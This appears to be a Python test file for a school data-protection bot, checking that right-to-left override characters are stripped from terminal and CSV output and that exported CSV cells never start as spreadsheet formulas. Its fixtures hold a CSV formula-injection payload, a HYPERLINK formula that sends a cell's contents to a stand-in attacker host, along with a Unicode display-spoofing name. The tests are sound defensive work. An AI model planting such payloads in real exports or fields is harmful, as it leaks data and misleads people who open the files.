"""Bidirectional controls never reach a screen or a spreadsheet, and no CSV cell runs as a
formula in a comma or a semicolon locale (SQLite and PostgreSQL, through the chat and the CLI).

“Jane‮Parent” (with U+202E, right-to-left override) is stored as typed, so nothing typed is
lost, but the terminal, Slack, Teams and CSV exports show it without the override.
"""

from __future__ import annotations

import csv
import io

from typer.testing import CliRunner

from tests.conftest import School_, run_cli
from tests.test_sar_workflow import intake, log
from workflows.core.bidi import CONTROLS

RLO = "\u202e"
NAME = f"Jane {RLO}tnerap\u2066 Parent"
DETAILS = 'All records;=HYPERLINK("http://evil.example/?"&A1,"Click");+1;@SUM(A1)\t-2'


def test_a_csv_export_has_no_controls_and_no_formula_in_either_locale(school: School_) -> None:
    from bot.cli import app

    log(school, "sam", *intake(requester=NAME, details=DETAILS))
    url = school.engine.url.render_as_string(hide_password=False)
    done = CliRunner().invoke(app, ["export", "sars"], env={"DPO_BOT_DATABASE_URL": url})
    assert done.exit_code == 0, done.output
    assert not CONTROLS.search(done.stdout)
    (row,) = csv.DictReader(io.StringIO(done.stdout))
    assert row["requester"] == "Jane tnerap Parent"
    # A semicolon locale splits the cells at ";" (and tabs): none of the pieces is a formula.
    for delimiter in (",", ";", "\t"):
        for cells in csv.reader(io.StringIO(done.stdout), delimiter=delimiter):
            for cell in cells:
                assert cell.lstrip('"')[:1] not in ("=", "+", "-", "@"), (delimiter, cell)
    assert row["details"].startswith("All records;'=HYPERLINK(")


def test_the_terminal_shows_no_controls(cli_env: dict[str, str]) -> None:
    typed = "\n".join([*intake(requester=NAME), "yes", f"Who is {RLO}this?"]) + "\n"
    done = run_cli("chat", "--user", "Sam Teacher", "--no-reminders", env=cli_env, stdin=typed)
    assert done.returncode == 0, done.stderr
    assert "Jane tnerap Parent" in done.stdout
    assert not CONTROLS.search(done.stdout + done.stderr)
